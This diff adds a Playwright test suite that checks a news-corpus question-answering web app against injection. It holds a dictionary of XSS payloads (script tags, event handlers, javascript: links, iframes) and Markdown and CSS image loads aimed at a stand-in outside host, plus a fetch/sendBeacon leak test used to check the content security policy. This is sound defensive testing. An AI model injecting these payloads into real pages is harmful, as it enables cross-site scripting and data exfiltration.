@@ -1,0 +1,215 @@
+"""Hostile text, files and requests against the running page.
+
+The pages here are opened with the content security policy switched off wherever text is under
+test: escaping alone has to hold, and the policy is tested as the second lock it is.
+"""
+
+import base64
+import hashlib
+import json
+import re
+import secrets
+
+import pytest
+from cryptography.hazmat.primitives import padding
+from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
+from markdown_it import MarkdownIt
+
+TOKEN = "zq17"  # in every payload, so that what became of it can be found
+HOST = "https://outside.example"
+PAYLOADS = {
+    "script": f"<script>window.hit='{TOKEN}'</script>",
+    "error handler": f"<img src='{TOKEN}' onerror=\"window.hit='{TOKEN}'\">",
+    "load handler": f"<svg onload=\"window.hit='{TOKEN}'\"><a href='#{TOKEN}'>x</a></svg>",
+    "broken out": f"'\"><input autofocus onfocus=window.hit='{TOKEN}'>",
+    "Markdown image": f"![{TOKEN}]({HOST}/{TOKEN}.png)",
+    "reference image": f"![{TOKEN}][{TOKEN}] [{TOKEN}]: {HOST}/reference-{TOKEN}.png",
+    "Markdown link": f"[{TOKEN}](javascript:window.hit='{TOKEN}')",
+    "bare link": f"{HOST}/{TOKEN} <{HOST}/{TOKEN}>",
+    "script link": f"<a href=\"javascript:window.hit='{TOKEN}'\">{TOKEN}</a>",
+    "style": f"<div style='background:url({HOST}/{TOKEN}.png)'>{TOKEN}</div>",
+    "style sheet": f"<style>@import url({HOST}/{TOKEN}.css);</style>",
+    "frame": f"<iframe src=\"data:text/html,<script>top.hit='{TOKEN}'</script>\"></iframe>",
+    "data image": f"![{TOKEN}](data:image/svg+xml,{TOKEN})",
+    "template": f"${{window.hit='{TOKEN}'}} {{{{window.hit='{TOKEN}'}}}} {{{TOKEN}}}",
+    "formula": f"$$\\href{{javascript:window.hit='{TOKEN}'}}{{{TOKEN}}}$$",
+    "false mark": f"<a class='bs-mark' href='#close-source' data-{TOKEN}='1'>[1]</a>",
+}
+ALL = " ".join(PAYLOADS.values())
+HEADLINE = f"Zanvoort dockers end strike {ALL}"
+TEXT = (
+    f"The dockers of Zanvoort ended their strike on Friday {ALL}.\n\n"
+    f"Pakistan’s foreign office said on 3 March 2024 that Zanvoort wages rise by 6 percent {ALL}.\n"
+)
+ROW = {"title": HEADLINE, "published": "2024-03-03", "authors": [ALL], "text": TEXT}
+FILES = {
+    f"<img src=x onerror=hit='{TOKEN}'>.jsonl": json.dumps(ROW),
+    f"{TOKEN}<script>hit=1<!--.pdf": f"%PDF-{ALL}",
+}
+QUESTION = f"By how much do Zanvoort wages rise? {ALL}"
+# Where text may stand in an attribute: read aloud, copied, or typed in.
+PLAIN_ATTRIBUTES = ["aria-label", "data-copy", "value", "title", "placeholder", "data-testid"]
+LIVE = """([token, plain]) => {
+  const bad = [];
+  for (const each of document.querySelectorAll("*")) {
+    for (const one of each.attributes) {
+      const open = plain.includes(one.name) || (one.name === "href" && one.value.startsWith("#article-"));
+      if (one.value.includes(token) && !open || one.name.includes(token))
+        bad.push(`${each.tagName} ${one.name}=${one.value}`);
+    }
+    if (["SCRIPT", "STYLE"].includes(each.tagName) && each.textContent.includes(token))
+      bad.push(each.outerHTML);
+  }
+  return bad;
+}"""
+
+
+def assert_inert(page, expected=None):
+    """No script ran, nothing of a payload is an element, and no other host was called."""
+    page.wait_for_timeout(150)  # an image that fails to load says so a little later
+    assert page.evaluate("window.hit ?? null") is None
+    assert page.evaluate(LIVE, [TOKEN, PLAIN_ATTRIBUTES]) == []
+    assert page.outside == []
+    assert page.errors == []
+    if expected is not None:  # and the reader sees what was written, sign for sign
+        shown = " ".join(page.inner_text(expected).split())
+        assert [name for name, text in PAYLOADS.items() if text not in shown] == []
+
+
+def ask(page, question):
+    before = page.locator(".bs-answer").count()
+    page.fill("#bs-question textarea", question)
+    page.keyboard.press("Enter")
+    page.wait_for_function("n => document.querySelectorAll('.bs-answer').length > n", arg=before)
+    page.wait_for_selector("#bs-send:visible")
+
+
+def open_tab(page, name):
+    page.get_by_role("tab", name=name).click()
+
+
+@pytest.fixture(scope="module")
+def hostile(server, open_page):
+    """A page without the policy, whose visitor has added an article made of payloads."""
+    page = open_page(server.url, bypass_csp=True)
+    open_tab(page, "Corpus")
+    page.get_by_role("button", name="Add articles").click()
+    given = [
+        {"name": name, "mimeType": "text/plain", "buffer": text.encode()}
+        for name, text in FILES.items()
+    ]
+    page.set_input_files("#bs-files input[type=file]", given)
+    page.wait_for_function("document.querySelectorAll('#bs-files tr').length == 2")
+    page.click("#bs-add")
+    page.wait_for_selector("#bs-status li")
+    return page
+
+
+def test_file_names_and_reasons_of_failure_are_inert(hostile):
+    assert hostile.locator("#bs-status li").count() == 2
+    assert "left out" in hostile.inner_text("#bs-status")
+    assert_inert(hostile)
+
+
+def test_pasted_headline_and_day_are_inert(hostile):
+    page = hostile
+    open_tab(page, "Corpus")
+    page.get_by_label("Or paste an article: headline").fill(f"Pasted {ALL}")
+    page.get_by_label("Date of publication").fill(ALL)
+    page.fill("#bs-paste textarea", f"Mara Velt resigned. {ALL}")
+    page.click("#bs-add")
+    page.wait_for_selector(".toast-body")  # no date, so a message comes that quotes it
+    assert TOKEN in page.inner_text(".toast-body")
+    assert_inert(page)
+
+
+def test_corpus_list_and_article_are_inert(hostile):
+    page = hostile
+    open_tab(page, "Corpus")
+    page.get_by_label("Search").press_sequentially("Zanvoort")
+    page.keyboard.press("Enter")
+    page.wait_for_function("document.querySelectorAll('.bs-corpus tbody tr').length == 1")
+    assert_inert(page, ".bs-corpus")
+    page.click(".bs-open")
+    page.wait_for_selector(".bs-article")
+    assert_inert(page, ".bs-article")
+
+
+def test_question_answer_and_source_are_inert(hostile):
+    page = hostile
+    open_tab(page, "Ask")
+    ask(page, QUESTION)
+    assert_inert(page, "#bs-chat .bs-question")
+    ask(page, "What did Pakistan's foreign office say about Zanvoort wages?")
+    assert_inert(page, "#bs-chat .bs-answer >> nth=1")
+    page.locator(".bs-answer >> nth=1").locator(".bs-mark").first.click()
+    page.wait_for_selector(".bs-article")
+    assert_inert(page, ".bs-article")
+
+
+def test_conversation_titles_and_reload_are_inert(hostile):
+    page = hostile
+    page.reload()
+    page.wait_for_selector(".bs-answer")
+    page.locator("#bs-sidebar button, .sidebar button").first.click()
+    page.wait_for_selector("#bs-conversations label")
+    assert_inert(page, "#bs-chat .bs-question >> nth=0")
+
+
+def test_export_is_inert_markdown(hostile):
+    page = hostile
+    page.get_by_role("button", name="Export").click()
+    page.wait_for_selector("#bs-markdown:visible")
+    page.wait_for_timeout(300)
+    with page.expect_download() as got:
+        page.click("#bs-markdown")
+    text = got.value.path().read_text()
+    tokens = MarkdownIt("commonmark", {"linkify": False}).parse(text)
+    kinds = {each.type for one in tokens for each in [one, *(one.children or [])]}
+    assert kinds.isdisjoint({"image", "link_open", "html_block", "html_inline", "code_block"})
+
+
+@pytest.mark.parametrize(("tab", "view"), [("Positions", "positions"), ("Timeline", "timeline")])
+def test_views_and_their_topics_are_inert(hostile, tab, view):
+    page = hostile
+    open_tab(page, tab)
+    page.fill(f"#bs-{view}-topic textarea, #bs-{view}-topic input", "Zanvoort wages")
+    page.keyboard.press("Enter")
+    page.wait_for_selector(f"#bs-{view} .bs-mark")
+    assert_inert(page)
+    page.fill(f"#bs-{view}-topic textarea, #bs-{view}-topic input", f"Atlantis {ALL}")
+    page.keyboard.press("Enter")
+    page.wait_for_timeout(1500)
+    assert_inert(page)
+
+
+def test_question_in_the_link_is_inert(server, open_page):
+    from urllib.parse import quote
+
+    page = open_page(f"{server.url}?q={quote(QUESTION)}", bypass_csp=True)
+    page.wait_for_selector(".bs-answer")
+    assert_inert(page, "#bs-chat .bs-question")
+
+
+def test_policy_blocks_what_would_get_through(browser_page):
+    blocked = browser_page.evaluate(
+        """async (host) => {
+          const seen = [];
+          document.addEventListener("securitypolicyviolation", e => seen.push(e.effectiveDirective));
+          const box = document.createElement("div");
+          box.innerHTML = `<img src="${host}/a.png"><iframe src="${host}"></iframe>
+            <object data="${host}/o"></object><link rel=stylesheet href="${host}/s.css">
+            <p style="background:url(${host}/b.png)">x</p>`;
+          document.body.append(box);
+          const script = document.createElement("script");
+          script.src = `${host}/s.js`; document.body.append(script);
+          await fetch(`${host}/leak`).catch(() => 0);
+          navigator.sendBeacon(`${host}/beacon`);
+          await new Promise(done => setTimeout(done, 500));
+          return [...new Set(seen)].sort();
+        }""",
+        HOST,
+    )
+    wanted = {"connect-src", "frame-src", "img-src", "object-src", "script-src-elem"}
+    assert wanted | {"style-src-elem"} <= set(blocked)
+    assert browser_page.outside == []
